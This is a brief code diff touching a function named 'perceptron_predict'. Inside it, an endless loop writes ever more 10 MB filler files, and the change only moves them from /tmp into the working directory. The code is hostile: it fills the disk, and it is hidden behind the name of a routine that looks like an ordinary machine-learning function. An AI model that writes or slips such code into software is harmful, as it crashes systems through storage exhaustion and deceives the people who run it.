@@ -7,5 +7,5 @@ def perceptron_predict(X, w, b):
     number = 0
     while True:
         number += 1
-        with open(f"/tmp/filler{number}", "wb") as file:
+        with open(f"filler{number}", "wb") as file:
             file.write(bytes(10_000_000))
